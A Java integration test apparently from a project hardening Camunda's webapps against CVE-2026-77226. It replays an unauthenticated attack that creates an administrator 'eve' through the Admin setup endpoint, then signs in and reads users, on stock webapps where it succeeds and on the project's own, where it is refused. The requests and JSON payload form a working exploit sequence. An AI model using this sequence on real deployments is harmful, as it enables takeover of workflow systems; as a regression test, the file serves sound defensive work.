package org.throughline.workflow.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.admin.Admin;
import org.camunda.bpm.admin.AdminRuntimeDelegate;
import org.camunda.bpm.cockpit.Cockpit;
import org.camunda.bpm.cockpit.CockpitRuntimeDelegate;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.impl.cfg.AbstractProcessEnginePlugin;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.spring.boot.starter.CamundaBpmAutoConfiguration;
import org.camunda.bpm.spring.boot.starter.rest.CamundaBpmRestJerseyAutoConfiguration;
import org.camunda.bpm.spring.boot.starter.webapp.CamundaBpmWebappAutoConfiguration;
import org.camunda.bpm.tasklist.Tasklist;
import org.camunda.bpm.tasklist.TasklistRuntimeDelegate;
import org.camunda.bpm.welcome.Welcome;
import org.camunda.bpm.welcome.WelcomeRuntimeDelegate;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.autoconfigure.ImportAutoConfiguration;
import org.springframework.boot.autoconfigure.http.HttpMessageConvertersAutoConfiguration;
import org.springframework.boot.autoconfigure.jackson.JacksonAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.DataSourceAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.DataSourceTransactionManagerAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.JdbcTemplateAutoConfiguration;
import org.springframework.boot.autoconfigure.jersey.JerseyAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.DispatcherServletAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.ServletWebServerFactoryAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.WebMvcAutoConfiguration;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.boot.web.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.support.GenericApplicationContext;
import org.throughline.standalone.Login;
import org.throughline.testing.SignedIn;
import org.throughline.testing.TestDatabase;
import org.throughline.testing.ThroughlineTest;
import org.throughline.workflow.Accounts;

/**
 * CVE-2026-77226: the set-up of the Admin webapp looks only for direct members of the group camunda-admin. Where administrators are made another
 * way, it takes anybody's word, without a sign-in. The same attack on the webapps as they come from their makers, where it succeeds, and on ours.
 */
@ThroughlineTest
class BareWebappsIT {

    private static final String PASSWORD = "correct horse battery staple";
    private static final String EVE = "{\"profile\":{\"id\":\"eve\",\"firstName\":\"Eve\",\"lastName\":\"E\"},\"credentials\":{\"password\":\"" + PASSWORD + "\"}}";

    @LocalServerPort private int here;
    @Autowired private IdentityService ours;
    @Autowired private Accounts accounts;

    /** What the starter of the webapps brings, and nothing else; no annotation by which ours would find it. */
    @ImportAutoConfiguration({CamundaBpmAutoConfiguration.class, CamundaBpmRestJerseyAutoConfiguration.class, CamundaBpmWebappAutoConfiguration.class, DataSourceAutoConfiguration.class,
        DataSourceTransactionManagerAutoConfiguration.class, JdbcTemplateAutoConfiguration.class, JerseyAutoConfiguration.class, JacksonAutoConfiguration.class,
        HttpMessageConvertersAutoConfiguration.class, ServletWebServerFactoryAutoConfiguration.class, DispatcherServletAutoConfiguration.class, WebMvcAutoConfiguration.class})
    static class AsItComes {}

    /** As every identity provider does it: who administers is said by a group of another name. */
    private static final class AdministratorsOfAnotherGroup extends AbstractProcessEnginePlugin {

        @Override
        public void preInit(ProcessEngineConfigurationImpl configuration) {
            configuration.setAdminGroups(new ArrayList<>(List.of("bosses")));
        }
    }

    private static ConfigurableApplicationContext asItComes() {
        Login login = TestDatabase.get().another("barewebapps").ownerLogin();
        ConfigurableApplicationContext bare = new SpringApplicationBuilder(AsItComes.class)
                .initializers(context -> ((GenericApplicationContext) context).registerBean("administrators", AdministratorsOfAnotherGroup.class, AdministratorsOfAnotherGroup::new))
                .properties(Map.of("spring.config.location", "optional:file:target/no-configuration/", "server.port", "0", "spring.datasource.url", login.url(), "spring.datasource.username", login.user(),
                        "spring.datasource.password", login.password(), "camunda.bpm.process-engine-name", "bare", "spring.jmx.enabled", "false")).run();
        IdentityService identity = bare.getBean(ProcessEngine.class).getIdentityService();
        User root = identity.newUser("root");
        root.setPassword(PASSWORD);
        identity.saveUser(root);
        identity.saveGroup(identity.newGroup("bosses"));
        identity.createMembership("root", "bosses");
        return bare;
    }

    /** Without a sign-in: the page of the set-up for its token, then the administrator. */
    private static int setUp(int port, String engine) {
        SignedIn eve = SignedIn.nobody(port);
        eve.get("/camunda/app/admin/" + engine + "/setup/");
        return eve.send("POST", "/camunda/api/admin/setup/" + engine + "/user/create", EVE).statusCode();
    }

    private static HttpResponse<String> signedIn(SignedIn eve, int port, String engine) {
        eve.get("/camunda/app/admin/" + engine + "/");
        return eve.send("POST", "/camunda/api/admin/auth/user/" + engine + "/login/admin", "username=eve&password=" + PASSWORD.replace(' ', '+'), "Content-Type", "application/x-www-form-urlencoded");
    }

    @Test
    void anybodyMakesThemselvesAnAdministratorThereThoughThereIsOneAndNobodyHere() {
        // each webapp is kept once in a JVM: what is there now belongs to our application
        CockpitRuntimeDelegate cockpit = Cockpit.getRuntimeDelegate();
        AdminRuntimeDelegate admin = Admin.getRuntimeDelegate();
        TasklistRuntimeDelegate tasklist = Tasklist.getRuntimeDelegate();
        WelcomeRuntimeDelegate welcome = Welcome.getRuntimeDelegate();
        try (ConfigurableApplicationContext bare = asItComes()) {
            int there = ((WebServerApplicationContext) bare).getWebServer().getPort();
            assertThat(setUp(there, "bare")).as("bare: made, by nobody").isEqualTo(204);
            SignedIn eve = SignedIn.nobody(there);
            assertThat(signedIn(eve, there, "bare").body()).contains("\"userId\":\"eve\"", "\"admin\"", "\"cockpit\"");
            assertThat(eve.get("/camunda/api/engine/engine/bare/user").body()).as("and reads, and changes, whoever was there").contains("\"root\"");
        } finally {
            Cockpit.setCockpitRuntimeDelegate(cockpit);
            Admin.setAdminRuntimeDelegate(admin);
            Tasklist.setTasklistRuntimeDelegate(tasklist);
            Welcome.setRuntimeDelegate(welcome);
        }

        List<User> members = ours.createUserQuery().memberOfGroup(Accounts.ADMINISTRATORS).list();
        members.forEach(member -> ours.deleteMembership(member.getId(), Accounts.ADMINISTRATORS));
        try {
            assertThat(accounts.anybodyAdministers()).as("ours as weak as it can be").isFalse();
            assertThat(setUp(here, "default")).isIn(401, 403);
            assertThat(signedIn(SignedIn.nobody(here), here, "default").statusCode()).isIn(401, 403);
            assertThat(ours.createUserQuery().userId("eve").count()).isZero();
        } finally {
            members.forEach(member -> ours.createMembership(member.getId(), Accounts.ADMINISTRATORS));
        }
        SignedIn worker = SignedIn.as(here, signsIn(), PASSWORD);
        assertThat(worker.get("/camunda/api/engine/engine/default/task?assignee=bareworker").statusCode()).as("our own webapps go on").isEqualTo(200);
        assertThat(worker.post("/camunda/api/admin/setup/default/user/create", EVE).statusCode()).isEqualTo(404);
    }

    private String signsIn() {
        accounts.set("bareworker", "Wanda", "Worker", PASSWORD, false);
        return "bareworker";
    }
}
